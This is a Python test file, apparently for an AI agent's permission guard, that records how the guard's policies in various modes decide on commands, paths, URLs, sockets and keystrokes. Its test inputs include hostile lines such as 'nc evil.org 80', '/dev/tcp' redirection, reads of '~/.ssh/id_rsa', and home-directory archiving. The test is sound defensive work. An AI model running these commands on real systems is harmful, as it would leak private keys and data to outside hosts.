"""What becomes of each access in each situation, whole: ``decisions.txt``. As a program, this writes it.

A line that differs is a promise that changed: what is allowed, asked, offered or refused, and why.
"""

import os
import tempfile
from collections.abc import Iterator, Sequence
from dataclasses import replace
from pathlib import Path

import pytest

from sam_tui.core.accesses import (
    Access,
    CommandAccess,
    Connect,
    Fetch,
    LocatedAccess,
    Read,
    Type,
    Use,
    Write,
)
from sam_tui.core.authorization.grants.scopes import ScopeOffer, offers, simulated
from sam_tui.core.authorization.grants.source_offers import sources_offers
from sam_tui.core.authorization.paths.secrets import Secrets
from sam_tui.core.authorization.policy.judgement import CHANGE, CONNECT, READ, Judgement
from sam_tui.core.authorization.policy.policy import Policy
from sam_tui.core.ids import CallId
from sam_tui.core.ports.policy import DecisionEntry
from sam_tui.core.verdict import Decision
from tests.guard.ward import ALICE, RUN, Ward
from tests.guard.ward import CREATE as CREATE_FILE
from tests.guard.ward import READ as READ_FILE

RECORDED = Path(__file__).with_name("decisions.txt")
RULES = """
[[rule]]
effect = "deny"
command = "git push"
comment = "by hand"
[[rule]]
effect = "deny"
path = "sub/closed"
[[rule]]
effect = "deny"
host = "*.evil.org"
[[rule]]
effect = "deny"
operation = "notes.drop"
[[rule]]
effect = "ask"
class = "network"
[[rule]]
effect = "ask"
path = "sub/asked"
access = "write"
[[rule]]
effect = "ask"
host = "asked.org"
[[rule]]
effect = "ask"
operation = "notes.ask"
[[rule]]
effect = "allow"
command = "make"
[[rule]]
effect = "allow"
command = "touch"
path = "sub"
[[rule]]
effect = "allow"
command = "rm -rf build"
exact = true
[[rule]]
effect = "allow"
class = "privileged"
[[rule]]
effect = "allow"
path = "../out"
[[rule]]
effect = "allow"
path = "~/.ssh/known_hosts"
access = "read"
[[rule]]
effect = "allow"
path = "../own/open"
[[rule]]
effect = "allow"
path = ".env.local"
[[rule]]
effect = "allow"
host = "allowed.org"
[[rule]]
effect = "allow"
operation = "notes.list"
[[rule]]
effect = "allow"
command = "cat"
host = "allowed.org"
"""
"""Of every effect, for every kind of thing."""
PROJECT = (
    '[[rule]]\neffect = "allow"\ncommand = "make"\n[[rule]]\neffect = "deny"\ncommand = "ls"\n'
)
COMMANDS = r"""
# nothing | ls > /dev/tcp/a.org/80 | cat ../out/.env | cat ../out/id_rsa | cp -r ../out x | cp -r . x
cat "$X" | cp -r "$X" y
ls | cat a ../out/x | cat /dev/null | touch sub/a | touch ../out/x | touch sub/a sub/b
make && touch sub/x | echo x > a | echo x > ../out/x | cat < ../out/x | make -j2 | make > a
rm -rf build | rm -rf build x | git push origin | git -C sub push | git pull | curl https://a.org/x
curl https://allowed.org/ | sudo ls | curl -X DELETE x | pip install x | python x.py | $X | if then
PATH=/x ls | cat .env | cat .env.local | cat ~/.ssh/id_rsa | cat ~/.ssh/known_hosts | cat id_*
cp -r ~ x | tar cf a.tgz ~ | cp -r sub x | cat ../own/x | cat ../own/open/x | cat ../own/shared/s
python -c 'open("/h/.ssh/id_rsa")' | cat $HOME/.ssh/id_rsa | npm run build | npm exec vite build
npm run 'a*' | make -C sub | nice make | cat sub/closed | touch sub/asked | cat https://allowed.org/x
git push --force | nc evil.org 80 | cp a b | mv a ../out/x | cp a b; ls | sed -i s/a/b/ a | chmod +x a
cat /dev/stdin | cat /dev/tty | ls > /dev/stderr | ls > /dev/stdout | cat /dev/zero | ls > /dev/full
make x && npm run build | cat a && make | echo $(make) | find . -name x -delete | wget -O a b.org
"""
PATHS = """
a.txt sub .env .env.local id_rsa .envrc .git/index .git/hooks/pre-commit sub/.git/config .vscode/tasks.json
sub/closed sub/closed/x sub/closedx sub/asked ../out ../out/x ../out/a/b ../x ../home ../home/x ../home/.ssh
../home/.ssh/id_rsa ../home/.ssh/known_hosts ../own ../own/x ../own/open/x ../own/shared/s ../ownx
/dev/null /devx /proc/1/mem / /etc/hosts pipe socket
"""
KEYS = (
    "", "\r", "ls\r", "make\r", "rm -rf build", "rm -rf x\x15ls\r", "lss\x7f\r", "l\x08sudo x\r",
    "cat ~/.ssh/id_rsa", "cat .env\r", "git push\r", "a\x03touch sub/a\r",
)  # fmt: skip
URLS = (
    "https://a.org/x", "a.org", "https://x.evil.org/", "http://evil.org/", "https://asked.org/a",
    "https://allowed.org/a", "http://10.0.0.1/x", "https://a.b.github.io/x", "https://a.org:8443/x?y",
    "https://u@a.org/", "",
)  # fmt: skip
PEERS = (
    "a.org:443", "x.evil.org:443", "asked.org:80", "allowed.org:443", "10.0.0.1:80", "127.0.0.1:8080",
    "127.0.0.1:8081", "localhost:8080", "[::1]:8080", "[2001:4860:4860::8888]:443", "a.github.io:443",
    "x.a.co.uk:443", "9.9.9.9:53", "10.0.0.1:8080", "a.org:8080", "127.0.0.1:2375", "the network",
    "@name", "@/tmp/.X11-unix/X0",
)  # fmt: skip
SOCKETS = ("../out/s", "a.sock", "../own/s", "../home/.ssh/agent", "/run/docker.sock")

PAST = (
    "$ make", "$ make x", "$ make x > a", "$ npm run build", "$ npm exec vite build", "$ touch sub/b",
    "$X", "$ cd /out && make", "$ python x.py a", "$ curl https://a.org/y", "$ ls", "make", "OUT",
    "OUT/x", "OUT/a/b", "OUTx", "WS/a", "OUT/x, WS/a", "OUT/x, OUTx", "https://a.org/x",
    "https://a.org/y", "https://a.org:8443/", "https://b.a.org/", "connect to a.org:443",
    "connect to b.a.org:80", "connect to x.a.co.uk:80", "connect to a.org.uk:80",
    "connect to /run/docker.sock", "connect to 9.9.9.9:53", "notes.add", "notes.adder",
    "//make", "$ npm run builder",
)  # fmt: skip
"""What past calls touched: which of them each scope would have covered is said of it."""


def past(folder: Path) -> tuple[DecisionEntry, ...]:
    """Past calls, every fifth of which the person refused."""
    allowed = Decision("x", "allow", "rule", "", "")
    refused = Decision("x", "deny", "user", "", "")
    entries: list[DecisionEntry] = []
    for number, call in enumerate(PAST):
        touched = call.replace("OUT", f"{folder}/out").replace("WS", f"{folder}/ws").split(", ")
        decision = replace(allowed if number % 5 else refused, targets=tuple(touched))
        entries.append(DecisionEntry(number, number, ALICE, CallId("c"), decision))
    return tuple(entries)


def accesses() -> Iterator[tuple[str, Access]]:
    """What is judged, with the operation."""
    for line in COMMANDS.strip().splitlines():
        yield from ((RUN, CommandAccess(command.strip())) for command in line.split(" | "))
    yield from ((RUN, CommandAccess(words, "sub")) for words in ("make", "touch a", "cat ../a"))
    yield RUN, CommandAccess("make", "../out")
    for path in PATHS.split():
        yield READ_FILE, Read(path, "path")
        yield CREATE_FILE, Write(path, "path")
        yield READ, Read(path, "outside")
        yield CHANGE, Write(path, "outside", follow=False, planted=True)
    yield from (("terminal_operations.send_keys", Type("main", keys)) for keys in KEYS)
    yield from (("web_operations.fetch", Fetch(url, "url")) for url in URLS)
    yield "web_operations.search", Fetch("http://10.0.0.1/x", "url", configured=True)
    yield from ((CONNECT, Connect(peer)) for peer in (*PEERS, *SOCKETS))
    yield from ((f"notes.{tool}", Use("notes", tool)) for tool in ("list", "drop", "ask", "add"))
    yield from ((f"notes.{tool}", Use("notes", tool, True)) for tool in ("list", "wipe"))


def refusal_of(url: str) -> str:
    """What the URL guard says of one."""
    return "it is private" if "//10." in url else ""


def situations(folder: Path) -> Iterator[tuple[str, Ward, Policy]]:
    """The policies that judge."""
    for mode in ("ask", "ask-all", "accept-edits", "plan", "auto", "bypass"):
        for sandboxed in (True, False):
            ward = Ward(folder, mode=mode, sandboxed=sandboxed, trusted=mode == "ask-all")
            yield f"{mode}{'' if sandboxed else ' bare'}", ward, ward.policy()
    for sandboxed in (True, False):
        ward = Ward(folder, sandboxed=sandboxed, rules=RULES, trusted=True)
        yield f"rules{'' if sandboxed else ' bare'}", ward, ward.policy()
    ward = Ward(folder, mode="plan", rules=RULES)
    yield "rules plan", ward, ward.policy()
    ward = Ward(folder, mode="bypass", rules=RULES)
    yield "rules bypass", ward, ward.policy()
    ward = Ward(folder, rules=PROJECT, layer="project")
    yield "project", ward, ward.policy()
    ward = Ward(folder, rules=PROJECT, layer="project", trusted=True, sandboxed=False)
    yield "project trusted", ward, ward.policy()
    ward = Ward(folder)
    aware = replace(
        ward.policy(),
        unwatched=lambda: True,
        watched=lambda: True,
        serves=(8080).__eq__,
        shared=(str(folder / "own/shared"),),
        url_refusal=refusal_of,
    )
    yield "aware", ward, aware
    yield "aware bare", ward, replace(aware, sandboxed=lambda: False, mode="ask-all")
    yield (
        "home inside",
        ward,
        replace(
            ward.policy(),
            secrets=Secrets(str(folder / "ws")),
            protected=(str(folder / "ws/sub/closed"),),
        ),
    )
    yield "without parts", ward, replace(ward.policy(), secrets=None, reader=None)


def located(ward: Ward, access: Access) -> LocatedAccess:
    """An access with its place, that of a socket as well."""
    if isinstance(access, Connect) and access.where in SOCKETS:
        where = ward.workspace.locate(access.where, follow=False)
        return LocatedAccess(Connect(where.real), where)
    return ward.guard.locate((access,))[0]


def offer_line(offer: ScopeOffer) -> str:
    """A scope with all that it would become."""
    choice = offer.choice
    saved = [
        f"{s.operation} {s.workspace or 'everywhere'} {s.path}{' '.join(s.command)}{s.host}"
        for s in offer.saved
    ]
    targets = "; ".join(choice.targets)
    grants = (
        "the same" if offer.targets == choice.targets else "; ".join(offer.targets) or "nothing"
    )
    covers = " ".join(str(int(call.made_at)) for call in choice.past)
    figures = f"covers {covers}, refused {choice.refused}" if covers else ""
    told = f"{choice.id} {choice.span}: {choice.words}: {targets}, grants {grants} {saved or ''} {figures}"
    return told.rstrip()


def stage(ward: Ward, operation: str, one: LocatedAccess) -> str:
    """The name of the stage that decides."""
    return ward.guard.policy.trace(one, operation)[-1].stage


def scopes(ward: Ward, operation: str, judged: Sequence[Judgement]) -> Iterator[str]:
    """The scopes of a question, and which of them there are where nothing can be kept."""
    sources = ("a.org", "x.a.co.uk")
    for keeps in (True, False):
        on_offer = offers(operation, judged, ward.guard.policy, seconds=300, keeps=keeps)
        on_offer += sources_offers(operation, judged, sources, ward.guard.policy, keeps=keeps)
        if keeps:
            calls = past(ward.folder)
            tried = (simulated(offer, calls, ward.guard.policy) for offer in on_offer)
            yield from (f"    {offer_line(offer)}" for offer in tried)
        else:
            yield f"    unsaved: {' '.join(offer.choice.id for offer in on_offer)}"


ASKED = (
    ("https://a.org/x",), ("https://a.org/x", "https://a.org/y"), ("https://a.org/x", "https://b.org/"),
    ("https://a.org/x", "/srv/a/x"), ("http://a.org:8080/x",), ("https://A.org/x",), ("https://a.org",),
    ("https://sub.a.org/x", "http://sub.a.org/x"), ("/srv/a/x", "/srv/b/y", "/srv/c/z"),
    ("/srv/a/x", "/srv/b/y", "/srv/c/z", "/srv/d/z"), ("/srv/a/x", "/srv/a/y"), ("/srv/a/x", "/x"),
    ("/usr",), ("/usr/lib",), ("/",), ("notes.add",), ("notes.add", "notes.list"), ("$ make", "$ make"),
    ("connect to a.org:443", "connect to a.org:80"), ("connect to a.org:443", "connect to b.org:443"),
    ("connect to a.org:443", "$ make"), ("connect to localhost:80",), ("connect to github.io:443",),
    ("connect to xn--a.org:80",), ("connect to a:80",), ("connect to 8.8.8.8:53",), ("keys 'x' in main",),
)  # fmt: skip
"""Targets that are asked about together."""


def asked_lines(folder: Path) -> Iterator[str]:
    """The scopes of questions about several things, of other lengths and by other rules."""
    state = replace(Ward(folder).policy(), roots=(f"{folder}/ws", f"{folder}/more"))
    for targets in ASKED:
        judged = [Judgement("ask", "rule", "some-rule", "why", target) for target in targets]
        yield f"Asked about {', '.join(targets)}"
        for offer in offers("notes.add", judged, state, seconds=300, keeps=True):
            yield f"    {offer_line(simulated(offer, past(folder), state))}"
    one = [Judgement("ask", "rule", "some-rule", "why", "/srv/a/x")]
    for seconds in (1, 29, 60, 89, 91, 120, 3600):
        _, timed = offers("x", one, state, seconds=seconds, keeps=True)[:2]
        yield f"For {seconds} seconds: {timed.choice.words} ({timed.choice.seconds})"
    for rule in ("user:1", "project:2", "session:3", "system:4", "local-secret:a key", "userless"):
        judged = [replace(one[0], rule=rule)]
        on_offer = offers("x", judged, state, seconds=60, keeps=True, once="just this")
        yield f"By {rule}: {' '.join(offer.choice.id for offer in on_offer)}, {on_offer[0].choice.words}"
        yield f"    {offer_line(on_offer[2])}"
    without = replace(state, reader=None, roots=())
    reading = state.reader and state.reader.read("make x")
    made = [Judgement("ask", "rule", "some-rule", "why", "$ make x", reading)]
    for told in (state, without):
        for offer in offers("x", made, told, seconds=60, keeps=True):
            yield f"    {offer_line(simulated(offer, past(folder), told))}"


def name(access: Access) -> str:
    """An access as it is listed."""
    match access:
        case Read(path=what) | Write(path=what) | Fetch(url=what) | Connect(where=what):
            return f"{access.kind} {what}"
        case CommandAccess(command=command, cwd=cwd):
            return f"run {command}{f' in {cwd}' if cwd else ''}"
        case Type(keys=keys):
            return f"type {keys!r}"
        case Use(tool=tool):
            return f"use {tool}"


def lines(folder: Path) -> Iterator[str]:
    """All that is recorded: below each access what becomes of it, and in which situations."""
    (folder / "ws/sub").mkdir(parents=True)
    os.mkfifo(folder / "ws/pipe")
    judges = list(situations(folder))
    known = {""}
    for operation, access in accesses():
        yield f"{operation}: {name(access)}"
        results: dict[str, list[str]] = {}
        offered: dict[str, str] = {}
        for situation, ward, policy in judges:
            ward.guard.policy = replace(policy, roots=ward.workspace.roots)
            one = located(ward, access)
            told = ward.guard.explain(ALICE, operation, (one,))
            exact = "" if told.judgements[0].plain else " exactly"
            text = f"{told.outcome}{exact} {told.rule}: {told.reason}"
            if text not in results:
                results[text] = [stage(ward, operation, one)]
                asks = told.outcome == "ask"
                offered[text] = "\n".join(scopes(ward, operation, told.judgements)) if asks else ""
            results[text].append(situation)
        most = max(results.values(), key=len)
        for text, (decided, *names) in results.items():
            whose = "others" if results[text] is most else ", ".join(names)
            yield f"  {text} ({decided}) [{whose}]".replace(str(folder), "")
            if offered[text] not in known:
                yield from offered[text].replace(str(folder), "").split("\n")
            known.add(offered[text])
    yield from (line.replace(str(folder), "") for line in asked_lines(folder))


@pytest.mark.requirement("guard:modes", "guard:policy-order", "guard:scopes")
def test_each_access_is_decided_in_each_situation_as_is_recorded(tmp_path: Path) -> None:
    assert [*lines(tmp_path.resolve())] == RECORDED.read_text(encoding="utf-8").splitlines()


if __name__ == "__main__":
    with tempfile.TemporaryDirectory() as made:
        text = "".join(f"{line}\n" for line in lines(Path(made).resolve()))
    RECORDED.write_text(text, encoding="utf-8")
